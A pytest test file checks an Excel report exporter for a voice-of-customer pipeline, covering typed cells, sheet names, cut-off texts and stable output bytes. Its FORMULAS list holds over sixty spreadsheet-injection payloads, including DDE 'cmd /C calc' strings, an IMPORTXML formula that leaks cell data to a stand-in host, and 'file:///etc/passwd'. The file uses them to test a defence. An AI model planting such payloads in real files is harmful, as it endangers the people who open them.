"""report.xlsx: typed cells, no formula from any text, names and lengths that Excel accepts, stable bytes."""

from __future__ import annotations

import dataclasses
import re
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING, Any

import pytest

from voc_pipeline.report import palette
from voc_pipeline.report.cells import CELL_LIMIT, CUT_SIGN, Book, cell_text, free_name
from voc_pipeline.report.office import cut, moment, printable, settled
from voc_pipeline.report.panels import (
    AccountLine,
    AccountsPanel,
    Checklist,
    ChecklistItem,
    Finding,
    FindingsPanel,
    ThemeLink,
)  # fmt: skip
from voc_pipeline.report.quoted import all_quotes
from voc_pipeline.report.shapes import Fact, ReportView, SegmentValue
from voc_pipeline.report.view import ReportInputs, build_view
from voc_pipeline.report.workbook import WorkbookExporter

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

FORMULAS = (
    "=1+1", '=HYPERLINK("http://example.org","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', ";=1+1", ",=1+1",
    "{=1+1}", "{=SUM(A1:A2)}", '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")', '=WEBSERVICE("http://x.org")',
    '=IMAGE("http://example.org/x.png")', '=DDE("cmd";"/C calc";"x")', "=A1", "=Summary!A1", "='Summary'!A1",
    '=INDIRECT("A1")', "=1/0", "=#REF!", "#REF!", "#N/A", "=\u200b1+1", "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1",
    "\uff0b1+1", "\uff20SUM(1)", "=", "+", "-", "@", "==", "=-1", "+-1", "--1", "=(1)", "=TRUE", "TRUE", "1", "1e5",
    "007", "1/2", "2026-11-22", "50%", "http://example.org", "https://example.org/#=1", "mailto:a@example.org",
    "ftp://example.org", "file:///etc/passwd", "internal:'Summary'!A1", "external:c:\\x.xlsx", "javascript:alert(1)",
    "<b>x</b>&amp;", "]]>", "_x0041_", "_x003D_1+1", "\u202e1+1=", "\x00=1", "\x0b=1", "\ufffe", "a\ud800b", "&A&P&F",
)  # fmt: skip

pytestmark = pytest.mark.filterwarnings("ignore:.*xtension is not supported:UserWarning")  # openpyxl and data bars


@pytest.fixture(scope="module")
def view(study: Callable[..., ReportInputs]) -> ReportView:
    return build_view(study())


def export(view: ReportView, folder: Path) -> bytes:
    return WorkbookExporter().export(view, folder).read_bytes()


def opened(made: bytes) -> Any:
    from openpyxl import load_workbook  # type: ignore[import-untyped] # (no stubs)

    return load_workbook(BytesIO(made))


def cells(book: Any) -> Iterator[Any]:
    return (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)


def records(sheet: Any, first: str) -> list[dict[str, Any]]:
    """Read the table whose header begins with a title."""
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    top = next(number for number, row in enumerate(rows) if row[0] == first)
    return [dict(zip(rows[top], row, strict=True)) for row in rows[top + 1 :]]


def poisoned(value: Any, text: str) -> Any:
    """Put a text into every text of a view but the moment of publication and the kinds that renderers look up."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        fixed = {"published_at", "kind", "anchor", "quote_id", "tone"}
        changes = {
            field.name: poisoned(getattr(value, field.name), text)
            for field in dataclasses.fields(value)
            if field.name not in fixed
        }
        return dataclasses.replace(value, **changes)
    if isinstance(value, tuple):
        return tuple(poisoned(item, text) for item in value)
    return text if isinstance(value, str) else value


def with_panels(view: ReportView) -> ReportView:
    """Fill the panels that the small study may leave empty."""
    theme = view.families[0].themes[0]
    link = ThemeLink(theme.name, theme.anchor)
    finding = Finding(link, "segment", "raised by all", "q = 0.01", (theme.quotes[0].quote_id,), (), "about 40")
    account = AccountLine(
        "P-01", (SegmentValue("Role", "Buyer"),), "1,000", Fact("Goodwill", "+1.00"), Fact("Political capital", ""),
        Fact("Abandonment", "\N{MINUS SIGN}1.00"), "0.50", 5, "500", (),
    )  # fmt: skip
    return dataclasses.replace(
        view,
        findings=FindingsPanel("One finding stands.", (finding,), "Worth a test.", (finding,)),
        accounts=AccountsPanel("value x strain", "500 in all", (account,), ""),
        checklists=(
            Checklist("COREQ", "2007", (ChecklistItem("1", "Interviewer", ""), ChecklistItem("2", "n", "12"))),
        ),
    )


def test_it_prints_nothing_but_a_view(tmp_path: Path) -> None:
    with pytest.raises(TypeError, match="the xlsx exporter prints a ReportView, not dict"):
        WorkbookExporter().export({}, tmp_path)
    assert not list(tmp_path.iterdir())


def test_the_sheets_stand_in_the_order_of_the_report(view: ReportView, tmp_path: Path) -> None:
    names = opened(export(with_panels(view), tmp_path)).sheetnames
    assert names[:5] == ["Summary", "Themes", "Role", "Region", "Quotes"]
    assert names[-2:] == ["Coverage", "Method"]
    assert {"Journey", "Statements", "Accounts"} <= set(names)


def test_numbers_are_numbers_and_the_numbers_of_the_view(view: ReportView, tmp_path: Path) -> None:
    rows = records(opened(export(view, tmp_path))["Themes"], "Theme")
    assert [row["Theme"] for row in rows] == [row.theme for row in view.ranking]
    for row, ranked in zip(rows, view.ranking, strict=True):
        assert f"{row['Participants']} of {row['Of']}" == ranked.reach.text
        assert row["Share"] == pytest.approx(ranked.reach.point / 100, abs=1e-4)
        assert (row["From"], row["To"]) == pytest.approx((ranked.reach.low / 100, ranked.reach.high / 100), abs=1e-4)
        assert row["Mentions"] == sum(part.count for part in ranked.sentiments)
        assert {part.kind: part.count for part in ranked.sentiments} == {
            kind: row[kind.capitalize()] for kind in palette.SENTIMENTS if row[kind.capitalize()]
        }


def test_the_segments_are_the_heat_table_in_typed_cells(view: ReportView, tmp_path: Path) -> None:
    book = opened(export(view, tmp_path))
    for table in view.heat_tables:
        rows = [[cell.value for cell in row] for row in book[table.attribute].iter_rows()]
        top = next(number for number, row in enumerate(rows) if row[:2] == ["Family", "Theme"])
        heads = [head.splitlines()[0].rstrip("\u2020\u00a0") for head in rows[top][2 : 2 + len(table.columns)]]
        assert heads == [column.value for column in table.columns]
        themes = [(group.family, row) for group in table.groups for row in group.rows]
        for row, (family, theme) in zip(rows[top + 1 :], themes, strict=True):
            assert row[:2] == [family, theme.theme]
            width = len(theme.cells)
            assert row[2 : 2 + width] == [cell.participants for cell in theme.cells]
            assert row[2 + width : 2 + 2 * width] == pytest.approx(
                [cell.participants / cell.base for cell in theme.cells]
            )
            assert row[2 + 2 * width : 2 + 3 * width] == [cell.volunteered for cell in theme.cells]


def test_small_bases_are_marked_and_stay_numbers(view: ReportView, tmp_path: Path) -> None:
    sheet = opened(export(view, tmp_path))["Role"]
    small = next(table for table in view.heat_tables if table.attribute == "Role")
    assert any(column.small for column in small.columns)
    marked = [cell for row in sheet.iter_rows() for cell in row if "\u2020" in cell.number_format]
    assert marked
    assert all(cell.data_type == "n" for cell in marked)


def test_every_quote_stands_in_the_list_word_for_word(view: ReportView, tmp_path: Path) -> None:
    rows = records(opened(export(view, tmp_path))["Quotes"], "Theme")
    found = [(row["Quote id"], row["Quote"], row["Participant"], row["Source file"], row["Turn"]) for row in rows]
    quotes = [item.quote for item in all_quotes(view)]
    assert found == [
        (quote.quote_id, quote.text, quote.participant_id, quote.source_file, quote.turn) for quote in quotes
    ]
    assert len(found) > 40


def test_tables_are_frozen_filtered_and_made_to_print(view: ReportView, tmp_path: Path) -> None:
    book = opened(export(with_panels(view), tmp_path))
    for sheet in book:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "Draft" in sheet.oddFooter.left.text
    for name in ("Themes", "Role", "Quotes", "Journey", "Statements", "Accounts", "Coverage"):
        assert book[name].freeze_panes
        assert book[name].auto_filter.ref
        assert book[name].print_title_rows
    assert list(book["Themes"].conditional_formatting)


def test_the_same_view_gives_the_same_bytes_and_names_nobody(view: ReportView, tmp_path: Path) -> None:
    first, second = export(view, tmp_path), export(view, tmp_path)
    assert first == second
    about = opened(first).properties
    assert about.created.isoformat() == about.modified.isoformat() == "2026-11-22T04:10:00"
    assert not about.creator
    assert not about.lastModifiedBy
    assert {entry.date_time for entry in zipfile.ZipFile(BytesIO(first)).infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_a_number_or_a_link(view: ReportView, tmp_path: Path, text: str) -> None:
    book = opened(export(poisoned(with_panels(view), text), tmp_path))
    found = list(cells(book))
    assert {cell.data_type for cell in found} <= {"s", "n"}
    shown = text.replace("\r", "\n")
    clean = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", shown)
    assert book["Summary"]["A1"].value == clean
    assert book["Summary"]["A1"].data_type == "s"
    links = [cell.hyperlink for cell in found if cell.hyperlink and cell.hyperlink.target]
    assert {"#".join(filter(None, (link.target, link.location))) for link in links} <= {text}
    assert bool(links) == text.startswith(("http://", "https://"))  # a recording's address, and nothing else


def test_there_are_sixty_payloads_at_least() -> None:
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize(
    ("wanted", "taken", "name"),
    [
        ("a/b:c*", (), "a b c"),
        ("x" * 40, (), "x" * 31),
        ("x" * 40, ("x" * 31,), "x" * 29 + " 2"),
        ("themes", ("Summary", "Themes"), "themes 2"),
        ("'Region'", (), "Region"),
        ("[]:*?/\\", (), "Sheet"),
        ("", ("Sheet",), "Sheet 2"),
        ("History", (), "Sheet History"),
        ("\N{GRINNING FACE}" * 20, (), "\N{GRINNING FACE}" * 15),
        ("a\nb\x00c", (), "a b\ufffdc"),
    ],
)
def test_a_sheet_gets_a_name_that_excel_accepts(wanted: str, taken: tuple[str, ...], name: str) -> None:
    assert free_name(wanted, taken) == name


def test_attributes_with_strange_names_get_their_sheets(view: ReportView, tmp_path: Path) -> None:
    names = ("a/b:c*", "Themes", "y" * 40, "Y" * 40)
    table = view.heat_tables[0]
    renamed = dataclasses.replace(view, heat_tables=tuple(dataclasses.replace(table, attribute=name) for name in names))
    assert opened(export(renamed, tmp_path)).sheetnames[2:6] == ["a b c", "Themes 2", "y" * 31, "Y" * 29 + " 2"]


def test_a_text_that_is_too_long_is_cut_with_a_sign(view: ReportView, tmp_path: Path) -> None:
    book = opened(export(dataclasses.replace(view, coverage_sentence="w " * 20_000), tmp_path))
    (long,) = [
        cell.value for cell in cells(book) if str(cell.value).endswith(CUT_SIGN) and cell.parent.title == "Summary"
    ]
    assert len(long) == CELL_LIMIT
    emoji = cell_text("\N{GRINNING FACE}" * 20_000)
    assert len(emoji.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert emoji.endswith(CUT_SIGN)
    assert cell_text("w" * CELL_LIMIT) == "w" * CELL_LIMIT


def test_what_waits_for_a_person_is_openly_blank(view: ReportView, tmp_path: Path) -> None:
    sheet = opened(export(with_panels(view), tmp_path))["Method"]
    (row,) = [row for row in sheet.iter_rows() if row[1].value == "Interviewer"]
    assert row[2].value is None
    assert row[2].fill.fgColor.rgb == f"FF{palette.MARK.upper()}"


def test_a_study_without_themes_still_gets_its_workbook(view: ReportView, tmp_path: Path) -> None:
    bare = dataclasses.replace(
        view, ranking=(), families=(), heat_tables=(), topics=(), journey=(), statements=(), findings=FindingsPanel(
            "Nothing was heard.", (), "", ()), decisions=(), accounts=None,
    )  # fmt: skip
    book = opened(export(bare, tmp_path))
    assert "Nothing was heard." in {cell.value for cell in cells(book)}
    assert "Accounts" not in book.sheetnames


def test_the_colours_are_those_of_the_page() -> None:
    from voc_pipeline.report.html import TEMPLATES

    styles = "\n".join(path.read_text(encoding="utf-8") for path in sorted(TEMPLATES.rglob("*.css")))
    light: dict[str, str] = {}
    for name, value in re.findall(r"--([a-z0-9]+):\s*#([0-9a-f]{6})", styles):
        light.setdefault(name, value)
    named = {
        "paper": palette.PAPER,
        "card": palette.CARD,
        "ink": palette.INK,
        "muted": palette.MUTED,
        "line": palette.LINE,
    }
    named |= {"accent": palette.ACCENT, "chip": palette.CHIP, "mark": palette.MARK, "bar": palette.BAR}
    named |= palette.SENTIMENTS | {f"h{level}": colour for level, colour in enumerate(palette.HEAT) if level}
    assert {name: light[name] for name in named} == named


def test_what_is_cut_ends_after_a_sentence_or_a_word_and_shows_it() -> None:
    assert cut("Short.", 10) == "Short."
    assert cut("One two three. Four five six seven.", 25) == "One two three. \u2026"
    assert cut("one two three four five six", 15) == "one two three \u2026"
    assert cut("x" * 50, 10) == "x" * 8 + " \u2026"


def test_a_moment_is_told_in_utc() -> None:
    assert moment("2026-11-22T04:10:00.5+02:00").isoformat() == "2026-11-22T02:10:00"
    assert moment("2026-11-22T04:10:00").isoformat() == "2026-11-22T04:10:00"


def test_what_xml_cannot_hold_is_replaced_where_it_stood() -> None:
    assert printable("a\x00b\x1fc\ud800d\ufffee\r\nf\rg\th") == "a\ufffdb\ufffdc\ufffdd\ufffde\nf\ng\th"
    assert printable("\N{GRINNING FACE}\u202e") == "\N{GRINNING FACE}\u202e"


def test_a_settled_archive_forgets_when_it_was_made() -> None:
    made = []
    for year in (2001, 2026):
        archive = BytesIO()
        with zipfile.ZipFile(archive, "w") as writer:
            writer.writestr(zipfile.ZipInfo("a", (year, 1, 1, 0, 0, 0)), b"same")
        made.append(settled(archive.getvalue()))
    assert made[0] == made[1]
    assert zipfile.ZipFile(BytesIO(made[0])).read("a") == b"same"


def test_a_book_without_rows_still_has_its_header() -> None:
    from voc_pipeline.report.cells import Column

    book = Book("t", "Draft", moment("2026-01-01T00:00:00"))
    book.sheet("Empty", (10.0,)).table((Column("Share", 10, "share", bar=True),), ())
    assert [cell.value for cell in cells(opened(book.finish()))] == ["Share"]
